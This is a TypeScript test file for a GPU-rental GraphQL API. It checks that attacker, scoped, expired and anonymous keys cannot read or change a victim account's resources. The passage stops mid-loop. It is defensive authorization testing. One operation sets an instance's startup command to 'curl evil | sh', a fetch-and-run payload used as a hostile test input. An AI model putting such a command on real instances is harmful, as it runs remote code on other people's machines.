import { generateKeyPairSync } from "node:crypto";
import { readFileSync } from "node:fs";
import { buildSchema } from "graphql";
import sshpk from "sshpk";
import { beforeAll, describe, expect, it } from "vitest";
import { issueApiKey } from "../domain/apiKeys.ts";
import { keyPermissions } from "../domain/authorization.ts";
import type { ApiKeyPermission } from "../prisma/generated/client/client.ts";
import { postEntry } from "../domain/billing/ledger.ts";
import { scheduleMaintenance } from "../domain/maintenance.ts";
import { requestSelfTest } from "../domain/selfTests.ts";
import { setOperator } from "../domain/operators.ts";
import { prisma } from "../infra/db.ts";
import { useTestApp } from "./support/app.ts";
import { subscribe } from "./support/ws.ts";
import { databaseSnapshot } from "./support/snapshot.ts";
import { CREATE_INSTANCE, createAccount, createListedMachine, instanceInput, unwrap } from "./support/rentals.ts";

/**
 * Every query and mutation that names an account's resources or acts for an account, tried with
 * every kind of key that may not do it: anonymous, another account's keys of each scope, the
 * victim's own machine- and instance-scoped keys, the victim's account keys that lack the permission
 * the operation needs (a read-only key among them), and the victim's expired key. Each attempt must
 * fail, reveal nothing of the victim, and leave the whole database exactly as it was. Subscriptions
 * are tried the same way over WebSocket.
 */
const app = useTestApp();

interface Ids {
  apiKey: string;
  sshKey: string;
  machine: string;
  instance: string;
  template: string;
  registryCredential: string;
  /** A maintenance window of the victim's machine. */
  maintenanceWindow: string;
  /** The victim's bid on the attacker's machine, and its instance. */
  bid: string;
  bidInstance: string;
  /** A pending self-test of the victim's machine. */
  selfTest: string;
}

let victim: { userId: number; key: string; email: string };
/** A ledger description only the victim's statements may show. */
const VICTIM_CREDIT = "credit for the victim 7f3a";
/** The label of the victim's bid: order books show its price level, never this. */
const VICTIM_BID_LABEL = "victim's bid 51c2";
let ids: Ids;
let attackerMachineId: number;
/** The attacker's rental on the victim's machine: a contract only the victim, its host, may see. */
let contractOnVictimMachine: string;
const machineSpecs = {
  gpuName: "RTX 4090", numGpus: 2, gpuRamMb: 24564, computeCap: 890, tflopsPerGpu: 82.6, gpuMemBw: 1008, pcieGen: 4, pcieBw: 24.5,
  cpuName: "EPYC", cpuCores: 32, cpuRamMb: 128000, diskSpaceGb: 1000, diskBw: 3000, inetUpMbps: 500, inetDownMbps: 500,
  cudaMaxGood: 12.4, driverVersion: "550.54.15", countryCode: "DE", geolocation: "Frankfurt, DE",
};
const callers: Record<string, string | undefined> = {};

function sshPublicKey(): string {
  const { publicKey } = generateKeyPairSync("ed25519");
  return sshpk.parseKey(publicKey.export({ type: "spki", format: "pem" }).toString(), "pem").toString("ssh");
}

beforeAll(async () => {
  const account = await createAccount("victim");
  victim = { ...account, email: (await prisma.user.findUniqueOrThrow({ where: { id: account.userId } })).email };
  const attacker = await createAccount("attacker");
  await prisma.$transaction((tx) =>
    postEntry(tx, { userId: victim.userId, kind: "ADJUSTMENT", amountMicros: 50_000_000n, description: VICTIM_CREDIT }),
  );

  const victimMachine = await createListedMachine(victim.userId);
  const attackerMachine = await createListedMachine(attacker.userId);
  const extraKey = await app.gql(`mutation { createApiKey(name: "ci") { ... on MutationCreateApiKeySuccess { data { apiKey { id } } } } }`, {}, victim.key);
  const ssh = await app.gql(
    `mutation ($k: String!) { addSshKey(publicKey: $k) { ... on MutationAddSshKeySuccess { data { id } } } }`,
    { k: sshPublicKey() },
    victim.key,
  );
  const template = await app.gql(
    `mutation { createTemplate(input: { name: "victim's private template", image: "victim/private", launchMode: SSH }) { ... on MutationCreateTemplateSuccess { data { id } } } }`,
    {},
    victim.key,
  );
  const registryCredential = await app.gql(
    `mutation { saveRegistryCredential(registry: "ghcr.io", auth: { username: "victim", password: "victim-registry-password" }) { ... on MutationSaveRegistryCredentialSuccess { data { id } } } }`,
    {},
    victim.key,
  );
  const victimRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 1) }, victim.key)).data.createInstance);
  const attackerRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(victimMachine, 1) }, attacker.key)).data.createInstance);
  const victimBid = unwrap(
    (await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 2, { bidPricePerGpuHour: "0.50", label: VICTIM_BID_LABEL }) }, victim.key)).data
      .createInstance,
  );
  attackerMachineId = attackerMachine;
  const window = await scheduleMaintenance(victim.userId, { machineId: victimMachine, start: new Date(Date.now() + 86_400_000 * 20), durationHours: 2 });
  contractOnVictimMachine = attackerRental.instance.id;

  ids = {
    apiKey: extraKey.data.createApiKey.data.apiKey.id,
    sshKey: ssh.data.addSshKey.data.id,
    machine: `Machine:${victimMachine}`,
    instance: victimRental.instance.id,
    template: template.data.createTemplate.data.id,
    registryCredential: registryCredential.data.saveRegistryCredential.data.id,
    maintenanceWindow: `MaintenanceWindow:${window.id}`,
    bid: victimBid.instance.id.replace("Instance:", "Bid:"),
    bidInstance: victimBid.instance.id,
    selfTest: `MachineSelfTest:${(await requestSelfTest({ userId: victim.userId, operator: false }, victimMachine)).id}`,
  };
  callers.anonymous = undefined;
  callers["attacker account key"] = attacker.key;
  callers["attacker machine key"] = (await issueApiKey(prisma, { userId: attacker.userId, name: "m", scope: "MACHINE", machineId: attackerMachine })).token;
  callers["attacker instance key"] = attackerRental.apiKey.token;
  callers["victim machine key"] = (await issueApiKey(prisma, { userId: victim.userId, name: "m", scope: "MACHINE", machineId: victimMachine })).token;
  callers["victim instance key"] = victimRental.apiKey.token;
  for (const permission of ["READ", "INSTANCES", "BILLING", "MACHINES", "KEYS"] as const) {
    const permissions = keyPermissions([permission]);
    callers[`victim ${permission} key`] = (await issueApiKey(prisma, { userId: victim.userId, name: permission, scope: "ACCOUNT", permissions })).token;
  }
  callers["victim expired key"] = (
    await issueApiKey(prisma, { userId: victim.userId, name: "old", scope: "ACCOUNT", expiresAt: new Date(Date.now() - 1000) })
  ).token;
  callers["victim expired session"] = (
    await issueApiKey(prisma, { userId: victim.userId, name: "login", scope: "SESSION", expiresAt: new Date(Date.now() - 1000) })
  ).token;
  // Staff: may vet any machine (with a key holding MACHINES), and is no one's owner otherwise.
  const operator = await createAccount("operator");
  await setOperator(prisma, (await prisma.user.findUniqueOrThrow({ where: { id: operator.userId } })).email, true);
  callers["operator account key"] = operator.key;
  // A rental of its own: what the operator follows of its instances shows at once.
  unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(victimMachine, 1) }, operator.key)).data.createInstance);
  // Bids of their own, on a machine of neither: what the attacker and the operator follow of their bids shows at once.
  const operatorMachine = await createListedMachine(operator.userId);
  for (const key of [attacker.key, operator.key]) {
    unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(operatorMachine, 1, { bidPricePerGpuHour: "0.40" }) }, key)).data.createInstance);
  }
  callers["operator READ key"] = (
    await issueApiKey(prisma, { userId: operator.userId, name: "ro", scope: "ACCOUNT", permissions: keyPermissions(["READ"]) })
  ).token;
});

const result = (field: string, success: string) => `${field} { __typename ... on ${success} { data { __typename } } ... on Error { code } }`;

/**
 * Operations on the victim's resources or acting for whoever calls: `needs` is the permission an
 * account key must hold, `allowedFor` names other callers that may legitimately succeed. Operations
 * that act for the caller (`forCaller`) succeed for another account on its own account: they are
 * tried with the victim's keys and the keys of no account.
 */
const operations: {
  name: string;
  document: string;
  variables: () => Record<string, unknown>;
  needs: ApiKeyPermission;
  allowedFor?: string[];
  forCaller?: boolean;
  /** Only an operator's key holding `needs` may do it: the victim's own keys may not either. */
  operatorOnly?: boolean;
  /** Only the victim's machine's agent may do it: no account key, whatever it holds. */
  agentOnly?: boolean;
}[] = [
  {
    name: "setMachineVerification", needs: "MACHINES", operatorOnly: true, allowedFor: ["operator account key"],
    document: `mutation ($id: ID!) { ${result('setMachineVerification(machineId: $id, verification: VERIFIED, note: "self-promoted")', "MutationSetMachineVerificationSuccess")} }`,
    variables: () => ({ id: ids.machine }),
  },
  {
    name: "setMachineDatacenter", needs: "MACHINES", operatorOnly: true, allowedFor: ["operator account key"],
    document: `mutation ($id: ID!) { ${result("setMachineDatacenter(machineId: $id, datacenter: true)", "MutationSetMachineDatacenterSuccess")} }`,
    variables: () => ({ id: ids.machine }),
  },
  {
    name: "requestSelfTest", needs: "MACHINES", allowedFor: ["operator account key"],
    document: `mutation ($id: ID!) { ${result("requestSelfTest(machineId: $id)", "MutationRequestSelfTestSuccess")} }`,
    variables: () => ({ id: ids.machine }),
  },
  { name: "revokeApiKey", needs: "KEYS", document: `mutation ($id: ID!) { ${result("revokeApiKey(id: $id)", "MutationRevokeApiKeySuccess")} }`, variables: () => ({ id: ids.apiKey }) },
  { name: "removeSshKey", needs: "KEYS", document: `mutation ($id: ID!) { ${result("removeSshKey(id: $id)", "MutationRemoveSshKeySuccess")} }`, variables: () => ({ id: ids.sshKey }) },
  {
    name: "listMachine", needs: "MACHINES",
    document: `mutation ($input: ListMachineInput!) { ${result("listMachine(input: $input)", "MutationListMachineSuccess")} }`,
    variables: () => ({ input: { machineId: ids.machine, pricePerGpuHour: "9.00", endDate: new Date(Date.now() + 86_400_000 * 10).toISOString() } }),
  },
  {
    // The machine's own agent reports its re-checked specs.
    name: "updateMachine", needs: "MACHINES", allowedFor: ["victim machine key"],
    document: `mutation ($input: UpdateMachineInput!) { ${result("updateMachine(input: $input)", "MutationUpdateMachineSuccess")} }`,
    variables: () => ({ input: { machineId: ids.machine, driverVersion: "999.99.99", numGpus: 1 } }),
  },
  { name: "unlistMachine", needs: "MACHINES", document: `mutation ($id: ID!) { ${result("unlistMachine(machineId: $id)", "MutationUnlistMachineSuccess")} }`, variables: () => ({ id: ids.machine }) },
  { name: "setMinBid", needs: "MACHINES", document: `mutation ($id: ID!) { ${result('setMinBid(machineId: $id, pricePerGpuHour: "0.01")', "MutationSetMinBidSuccess")} }`, variables: () => ({ id: ids.machine }) },
  {
    name: "extendMachineEndDate", needs: "MACHINES",
    document: `mutation ($id: ID!, $end: DateTime!) { ${result("extendMachineEndDate(machineId: $id, endDate: $end)", "MutationExtendMachineEndDateSuccess")} }`,
    variables: () => ({ id: ids.machine, end: new Date(Date.now() + 86_400_000 * 60).toISOString() }),
  },
  {
    name: "scheduleMaintenance", needs: "MACHINES",
    document: `mutation ($id: ID!, $start: DateTime!) { ${result("scheduleMaintenance(machineId: $id, start: $start, durationHours: 1)", "MutationScheduleMaintenanceSuccess")} }`,
    variables: () => ({ id: ids.machine, start: new Date(Date.now() + 86_400_000 * 5).toISOString() }),
  },
  { name: "cancelMaintenance", needs: "MACHINES", document: `mutation ($id: ID!) { ${result("cancelMaintenance(id: $id)", "MutationCancelMaintenanceSuccess")} }`, variables: () => ({ id: ids.maintenanceWindow }) },
  { name: "removeMachine", needs: "MACHINES", document: `mutation ($id: ID!) { ${result("removeMachine(machineId: $id)", "MutationRemoveMachineSuccess")} }`, variables: () => ({ id: ids.machine }) },
  { name: "stopInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("stopInstance(id: $id)", "MutationStopInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  { name: "startInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("startInstance(id: $id)", "MutationStartInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  { name: "destroyInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("destroyInstance(id: $id)", "MutationDestroyInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  { name: "rebootInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("rebootInstance(id: $id)", "MutationRebootInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  { name: "recycleInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("recycleInstance(id: $id)", "MutationRecycleInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  {
    name: "updateInstance",
    needs: "INSTANCES",
    document: `mutation ($id: ID!) { ${result('updateInstance(id: $id, input: { onstart: "curl evil | sh" })', "MutationUpdateInstanceSuccess")} }`,
    variables: () => ({ id: ids.instance }),
    allowedFor: ["victim instance key"],
  },
  {
    name: "instanceLogs",
    needs: "READ",
    document: `query ($id: ID!) { ${result("instanceLogs(instanceId: $id, tail: 10)", "QueryInstanceLogsSuccess")} }`,
    variables: () => ({ id: ids.instance }),
    allowedFor: ["victim instance key"],
  },
  {
    name: "removeRegistryCredential",
    needs: "KEYS",
    document: `mutation ($id: ID!) { ${result("removeRegistryCredential(id: $id)", "MutationRemoveRegistryCredentialSuccess")} }`,
    variables: () => ({ id: ids.registryCredential }),
  },
  { name: "labelInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('labelInstance(id: $id, label: "pwned")', "MutationLabelInstanceSuccess")} }`, variables: () => ({ id: ids.instance }) },
  { name: "changeBid", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('changeBid(instanceId: $id, pricePerGpuHour: "5.00")', "MutationChangeBidSuccess")} }`, variables: () => ({ id: ids.bidInstance }) },
  { name: "deleteTemplate", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("deleteTemplate(id: $id)", "MutationDeleteTemplateSuccess")} }`, variables: () => ({ id: ids.template }) },
  {
    name: "createInstance",
    needs: "INSTANCES",
    document: `mutation ($input: CreateInstanceInput!) { ${result("createInstance(input: $input)", "MutationCreateInstanceSuccess")} }`,
    variables: () => ({ input: { offerId: `${ids.machine.split(":")[1]}-1`, templateId: ids.template } }),
  },
  { name: "instance", needs: "READ", document: `query ($id: ID!) { instance(id: $id) { id status } }`, variables: () => ({ id: ids.instance }) },
  {
    name: "charges", needs: "READ",
    document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { charges(instanceId: $id, from: $from, to: $to) { nodes { instanceId amount } } }`,
    variables: () => ({ id: ids.instance, ...lastWeek() }),
  },
  {
    name: "earnings", needs: "READ",
    document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { earnings(machineId: $id, from: $from, to: $to) { nodes { machineId } } }`,
    variables: () => ({ id: ids.machine, ...lastWeek() }),
  },
  {
    name: "attachSshKey", needs: "INSTANCES",
    document: `mutation ($id: ID!, $k: String!) { ${result("attachSshKey(instanceId: $id, publicKey: $k)", "MutationAttachSshKeySuccess")} }`,
    variables: () => ({ id: ids.instance, k: sshPublicKey() }),
  },
  {
    name: "detachSshKey", needs: "INSTANCES",
    document: `mutation ($id: ID!, $key: ID!) { ${result("detachSshKey(instanceId: $id, sshKeyId: $key)", "MutationDetachSshKeySuccess")} }`,
    variables: () => ({ id: ids.instance, key: ids.sshKey }),
  },
  {
    name: "setMachineNetwork", needs: "MACHINES",
    document: `mutation ($input: MachineNetworkInput!) { ${result("setMachineNetwork(input: $input)", "MutationSetMachineNetworkSuccess")} }`,
    variables: () => ({ input: { machineId: ids.machine, directPortStart: 50_000, directPortEnd: 50_100, publicAddress: "203.0.113.9" } }),
  },
  {
    // The victim rents on the attacker's machine: the victim may report it, with a key that may rent.
    name: "reportMachine", needs: "INSTANCES", forCaller: true,
    document: `mutation ($id: ID!) { ${result('reportMachine(machineId: $id, reason: OTHER, text: "made up")', "MutationReportMachineSuccess")} }`,
    variables: () => ({ id: `Machine:${attackerMachineId}` }),
  },
  {
    name: "machineReports", needs: "READ", operatorOnly: true, allowedFor: ["operator account key", "operator READ key"],
    document: `{ machineReports(first: 10) { totalCount } }`,
    variables: () => ({}),
  },
  { name: "addCredit", needs: "BILLING", forCaller: true, document: `mutation { ${result('addCredit(amount: "10.00")', "MutationAddCreditSuccess")} }`, variables: () => ({}) },
  // The agent's operations: the victim's machine's own agent only (MACHINE key), for its machine and the rentals on it.
  {
    name: "machineHeartbeat", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { ${result("machineHeartbeat(machineId: $id, metrics: { cpuLoad: 0.5 })", "MutationMachineHeartbeatSuccess")} }`,
    variables: () => ({ id: ids.machine }),
  },
  {
    name: "reportInstanceState", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { ${result('reportInstanceState(instanceId: $id, status: EXITED, message: "forged")', "MutationReportInstanceStateSuccess")} }`,
    variables: () => ({ id: contractOnVictimMachine }),
  },
  {
    name: "reportUsage", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { ${result('reportUsage(instanceId: $id, rxBytes: "1000000000", txBytes: "1000000000")', "MutationReportUsageSuccess")} }`,
    variables: () => ({ id: contractOnVictimMachine }),
  },
  {
    name: "uploadInstanceLogs", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { uploadInstanceLogs(instanceId: $id, requestId: "forged", lines: ["forged"]) { __typename ... on Error { code } } }`,
    variables: () => ({ id: contractOnVictimMachine }),
  },
  {
    name: "issueContainerApiKey", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { ${result("issueContainerApiKey(instanceId: $id)", "MutationIssueContainerApiKeySuccess")} }`,
    variables: () => ({ id: contractOnVictimMachine }),
  },
  {
    name: "reportSelfTest", needs: "MACHINES", agentOnly: true,
    document: `mutation ($id: ID!) { ${result('reportSelfTest(selfTestId: $id, checks: [{ name: CONTAINER_START, passed: true, message: "forged" }])', "MutationReportSelfTestSuccess")} }`,
    variables: () => ({ id: ids.selfTest }),
  },
  {
    name: "createTemplate", needs: "INSTANCES", forCaller: true,
    document: `mutation { ${result('createTemplate(input: { name: "t", image: "x/y", launchMode: SSH })', "MutationCreateTemplateSuccess")} }`,
    variables: () => ({}),
  },
  {
    name: "saveRegistryCredential", needs: "KEYS", forCaller: true,
    document: `mutation { ${result('saveRegistryCredential(registry: "quay.io", auth: { username: "u", password: "p" })', "MutationSaveRegistryCredentialSuccess")} }`,
    variables: () => ({}),
  },
  { name: "requestEmailVerification", document: `mutation { ${result("requestEmailVerification", "MutationRequestEmailVerificationSuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
  {
    name: "changePassword",
    document: `mutation { ${result('changePassword(currentPassword: "x", newPassword: "a new password")', "MutationChangePasswordSuccess")} }`,
    variables: () => ({}),
    needs: "KEYS",
    forCaller: true,
  },
  { name: "addCard", document: `mutation { ${result("addCard", "MutationAddCardSuccess")} }`, variables: () => ({}), needs: "BILLING", forCaller: true },
  { name: "createApiKey", document: `mutation { ${result('createApiKey(name: "x")', "MutationCreateApiKeySuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
  {
    name: "addSshKey",
    document: `mutation ($k: String!) { ${result("addSshKey(publicKey: $k)", "MutationAddSshKeySuccess")} }`,
    variables: () => ({ k: sshPublicKey() }),
    needs: "KEYS",
    forCaller: true,
  },
  {
    name: "updateBillingSettings",
    document: `mutation { ${result('updateBillingSettings(input: { balanceAlertThreshold: "3.00" })', "MutationUpdateBillingSettingsSuccess")} }`,
    variables: () => ({}),
    needs: "BILLING",
    forCaller: true,
  },
  {
    name: "startPayoutOnboarding",
    document: `mutation { ${result("startPayoutOnboarding", "MutationStartPayoutOnboardingSuccess")} }`,
    variables: () => ({}),
    needs: "BILLING",
    forCaller: true,
  },
  {
    name: "registerMachine",
    document: `mutation ($input: RegisterMachineInput!) { ${result("registerMachine(input: $input)", "MutationRegisterMachineSuccess")} }`,
    variables: () => ({ input: machineSpecs }),
    needs: "MACHINES",
    forCaller: true,
  },
];

function lastWeek() {
  return { from: new Date(Date.now() - 7 * 86_400_000).toISOString(), to: new Date(Date.now() + 86_400_000).toISOString() };
}

const RECENT = `from: "${lastWeek().from}", to: "${lastWeek().to}"`;

/** Queries that list "my" things: for any other caller they must fail or show none of the victim's. */
const listings = [
  "{ me { id email } }",
  "{ spendLimit { tier currentPerHour } }",
  "{ sessions(first: 100) { totalCount nodes { id name } } }",
  "{ apiKeys(first: 100) { totalCount nodes { id name } } }",
  "{ sshKeys(first: 100) { totalCount nodes { id fingerprint } } }",
  "{ myMachines(first: 100) { totalCount nodes { id } } }",
  "{ instances(first: 50) { edges { node { id } } } }",
  "{ templates(first: 50) { edges { node { id name } } } }",
  "{ registryCredentials(first: 100) { totalCount nodes { id registry username } } }",
  "{ billingSettings { autoBillThreshold balanceAlertThreshold } }",
  "{ payouts(first: 100) { totalCount nodes { amount createdAt destination } } }",
  `{ invoices(${RECENT}, first: 100) { totalCount nodes { description amount } } }`,
  `{ charges(${RECENT}, first: 100) { totalCount nodes { instanceId } } }`,
  `{ earnings(${RECENT}, first: 100) { totalCount nodes { machineId } } }`,
  "{ bids(first: 50) { totalCount edges { node { id machineId standing priceToWin instance { id label } } } } }",
];

/** The victim's account keys holding one permission each (and READ): they may do what it allows. */
const permissionOf = (caller: string) => /^victim (READ|INSTANCES|BILLING|MACHINES|KEYS) key$/.exec(caller)?.[1];

/**
 * Subscriptions over WebSocket of the victim's things: `allowedFor` names the callers that may
 * follow them besides the victim's keys that may read.
 */
const subscriptions: {
  name: string;
  title: string;
  document: string;
  variables: () => Record<string, unknown>;
  allowedFor: string[];
  /** What a caller it accepts gets first, for a subscription open to every key. */
  shows?: Record<string, unknown>;
}[] = [
  { name: "assignments", title: "assignments of the victim's machine", document: `subscription ($m: ID!) { assignments(machineId: $m) { machineId selfTests instances { instanceId } } }`, variables: () => ({ m: ids.machine }), allowedFor: ["victim machine key"] },
  { name: "logRequests", title: "log requests of the victim's machine", document: `subscription ($m: ID!) { logRequests(machineId: $m) { instanceId } }`, variables: () => ({ m: ids.machine }), allowedFor: ["victim machine key"] },
  { name: "instanceStatus", title: "the status of the victim's instance", document: `subscription ($id: ID!) { instanceStatus(instanceId: $id) { id status } }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
  // Without an instance: each of the caller's own instances, so none of the victim's for anyone else.
  { name: "instanceStatus", title: "the status of the caller's instances", document: `subscription { instanceStatus { id status } }`, variables: () => ({}), allowedFor: [] },
  { name: "balance", title: "the caller's balance", document: `subscription { balance { id balance } }`, variables: () => ({}), allowedFor: [] },
  // Each key that may read gets its own account's bid first (the attacker's and the operator's), never the victim's.
  {
    name: "bids", title: "the caller's bids", document: `subscription { bids { id numGpus pricePerGpuHour standing } }`, variables: () => ({}), allowedFor: [],
    shows: { numGpus: 1, pricePerGpuHour: "0.40" },
  },
  // Any key may watch a listed machine's book: the victim's bid shows as a price level, never as the victim's.
  {
    name: "orderBook", title: "the book of a machine the victim bids on",
    document: `subscription ($m: ID!) { orderBook(machineId: $m) { machineId clearingPrice levels { price gpus bids winningGpus } } }`,
    variables: () => ({ m: `Machine:${attackerMachineId}` }), allowedFor: [],
    shows: { clearingPrice: "0.50", levels: [{ price: "0.50", gpus: 2, bids: 1, winningGpus: 2 }] },
  },
];

/** Open to every caller: signing up, logging in, the mailed tokens, and the public market. */
const openToAll = [
  "signup", "completeSignup", "login", "verifyEmail", "requestPasswordReset", "resetPassword",
  "offers", "offer", "orderBook", "marketStats", "priceHistory", "priceSeries", "earningsEstimate",
  // A machine's public listing; what only its host may read is checked with its contracts below.
  "machine",
];

describe("authorization matrix", () => {
  const callerNames = [
    "anonymous",
    "attacker account key",
    "attacker machine key",
    "attacker instance key",
    "victim machine key",
    "victim instance key",
    "victim READ key",
    "victim INSTANCES key",
    "victim BILLING key",
    "victim MACHINES key",
    "victim KEYS key",
    "victim expired key",
    "victim expired session",
    "operator READ key",
    "operator account key",
  ];

  it("tries every query, mutation and subscription of the schema, or names it open to all", () => {
    const schema = buildSchema(readFileSync(new URL("../schema.graphql", import.meta.url), "utf8"));
    const tried = new Set([...operations.map((o) => o.name), ...listings.map((q) => /^\{ (\w+)/.exec(q)![1]!), "node", "nodes", ...subscriptions.map((sub) => sub.name), ...openToAll]);
    const roots = [schema.getQueryType()!, schema.getMutationType()!, schema.getSubscriptionType()!].flatMap((type) => Object.keys(type.getFields()));
    expect(roots.filter((name) => !tried.has(name))).toEqual([]);
  });

  for (const operation of operations) {
    for (const caller of callerNames) {
      if (operation.allowedFor?.includes(caller) || (operation.agentOnly && caller === "victim machine key")) continue;
      const permission = permissionOf(caller);
      if (permission && !operation.operatorOnly && !operation.agentOnly && (permission === operation.needs || operation.needs === "READ")) continue;
      // Another account acting for itself may: the attacker and the operator are such accounts.
      if (operation.forCaller && (caller === "attacker account key" || caller === "operator account key")) continue;
      it(`${operation.name} by ${caller} fails and changes nothing`, async () => {
        const before = await databaseSnapshot();
        const response = await app.gql(operation.document, operation.variables(), callers[caller]);
        const field = response.data?.[operation.name];
        const failed = (response.errors?.length ?? 0) > 0 || (field && "code" in field);
        expect(failed, JSON.stringify(response)).toBe(true);
        // A key that may not do it is told so; one that may meets only the victim's ownership.
        if (operation.forCaller || caller.startsWith("victim") || caller === "anonymous") {
          const code = field?.code ?? response.errors?.[0]?.extensions?.code;
          expect(["FORBIDDEN", "UNAUTHENTICATED"], JSON.stringify(response)).toContain(code);
        }
        expect(JSON.stringify(response)).not.toContain(victim.email);
        expect(await databaseSnapshot()).toBe(before);
      });
    }
  }

  for (const query of listings) {
    for (const caller of callerNames) {
      if (permissionOf(caller)) continue; // the victim's own keys that may read, below
      it(`${query} by ${caller} shows nothing of the victim`, async () => {
        const response = JSON.stringify(await app.gql(query, {}, callers[caller]));
        expect(response).not.toContain(victim.email);
        expect(response).not.toContain(VICTIM_CREDIT);
        expect(response).not.toContain(VICTIM_BID_LABEL);
        for (const id of Object.values(ids)) expect(response).not.toContain(`"${id}"`);
      });
    }
  }

  for (const subscription of subscriptions) {
    for (const caller of callerNames) {
      if (permissionOf(caller) || subscription.allowedFor.includes(caller)) continue;
      it(`subscribing to ${subscription.title}, by ${caller}, shows nothing of the victim`, async () => {
        const sub = subscribe(app.url, callers[caller] ?? "", subscription.document, subscription.variables());
        try {
          // Refused (the connection closed, or an error), or the caller's own things only: what it
          // sends first is the state as it is now, so a leak would show at once.
          const first = await Promise.race([sub.failed(), sub.next()]);
          const text = JSON.stringify([first, sub.values]);
          for (const id of [...Object.values(ids), `User:${victim.userId}`]) expect(text).not.toContain(`"${id}"`);
          expect(text).not.toContain(victim.email);
          expect(text).not.toContain(VICTIM_BID_LABEL);
          if (sub.errors.length > 0 && Array.isArray(sub.errors[0])) {
            expect(["FORBIDDEN", "UNAUTHENTICATED", "NOT_FOUND"]).toContain((sub.errors[0] as { extensions: { code: string } }[])[0]!.extensions.code);
          }
          if (subscription.shows && sub.errors.length === 0) expect(first).toMatchObject(subscription.shows);
        } finally {
          await sub.close();
        }
      });
    }
  }

  for (const caller of callerNames) {
    if (permissionOf(caller)) continue;
    it(`node and nodes of the victim's things, by ${caller}, show none of them`, async () => {
      // The victim's instance is seen by its own key and by the agent of the machine it runs on.
      const instanceSeen = caller === "victim instance key" || caller === "attacker machine key";
      const { instance, bidInstance, machine, ...accountOnly } = ids;
      const lookedUp = instanceSeen ? Object.values(accountOnly) : [instance, bidInstance, ...Object.values(accountOnly)];
      const response = await app.gql(`query ($ids: [ID!]!, $one: ID!) { nodes(ids: $ids) { id } node(id: $one) { id } }`, { ids: lookedUp, one: lookedUp[0] }, callers[caller]);
      const text = JSON.stringify(response);
      for (const id of lookedUp) expect(text).not.toContain(`"${id}"`);
      expect(text).not.toContain(victim.email);
    });
  }

  for (const caller of callerNames) {
    it(`the order book of a machine the victim bids on, by ${caller}, shows the bid's level and nothing of the victim`, async () => {
      const book = `orderBook { minBid clearingPrice levels { price gpus bids winningGpus } }`;
      const response = await app.gql(
        `query ($m: ID!) { orderBook(machineId: $m) { machineId levels { price gpus bids } } offers(query: "machine_id=${attackerMachineId} rentable=any") { edges { node { ${book} } } } }`,
        { m: `Machine:${attackerMachineId}` },
        callers[caller],
      );
      // Expired credentials are refused outright; every other caller sees the book.
      if (!caller.includes("expired")) expect(response.data.orderBook.levels).toContainEqual({ price: "0.50", gpus: 2, bids: 1 });
      const text = JSON.stringify(response);
      expect(text).not.toContain(victim.email);
      expect(text).not.toContain(VICTIM_BID_LABEL);
      expect(text).not.toContain(`"${victim.userId}"`);
      for (const id of Object.values(ids)) expect(text).not.toContain(`"${id}"`);
    });
  }

  /** The victim's bid by its global id, and through its instance (by id, and as a node: the machine's agent sees its instances). */
  const VICTIM_BID = `query ($bid: ID!) { node(id: $bid) { id ... on Bid { standing priceToWin instance { label } } } nodes(ids: [$bid]) { id } }`;
  const VICTIM_BID_INSTANCE = `query ($instance: ID!) { instance(id: $instance) { bid { id standing priceToWin } bidHistory { price standing } } }`;
  // Each part on its own: one refused field must not hide what another would show.
  const VICTIM_BID_NODE = `query ($instance: ID!) {
    label: node(id: $instance) { ... on Instance { label } }
    bid: node(id: $instance) { ... on Instance { bid { standing priceToWin } } }
    history: node(id: $instance) { ... on Instance { bidHistory { price standing } } }
  }`;

  for (const caller of callerNames) {
    if (permissionOf(caller)) continue; // the victim's own keys that may read, below
    it(`the victim's bid by its global id or its instance, by ${caller}, is not there`, async () => {
      const byId = await app.gql(VICTIM_BID, { bid: ids.bid }, callers[caller]);
      // Expired credentials are refused outright; every other caller finds no such bid.
      if (!caller.includes("expired")) expect(byId, JSON.stringify(byId)).toEqual({ data: { node: null, nodes: [null] } });
      const byInstance = await app.gql(VICTIM_BID_INSTANCE, { instance: ids.bidInstance }, callers[caller]);
      expect(byInstance.data ?? null, JSON.stringify(byInstance)).toBeNull();
      expect(["FORBIDDEN", "NOT_FOUND", "UNAUTHENTICATED"]).toContain(byInstance.errors?.[0]?.extensions?.code);
      const asNode = await app.gql(VICTIM_BID_NODE, { instance: ids.bidInstance }, callers[caller]);
      const text = JSON.stringify([byId, byInstance, asNode]);
      expect(text).not.toContain(VICTIM_BID_LABEL);
      expect(text).not.toContain('"0.50"');
      for (const id of Object.values(ids)) expect(text).not.toContain(`"${id}"`);
    });
  }

  const CONTRACTS = "{ myMachines { nodes { id contracts(includeEnded: true) { totalCount edges { node { instanceId kind status pricePerGpuHour since endDate earnings { total } } } } } } }";

  for (const caller of callerNames) {
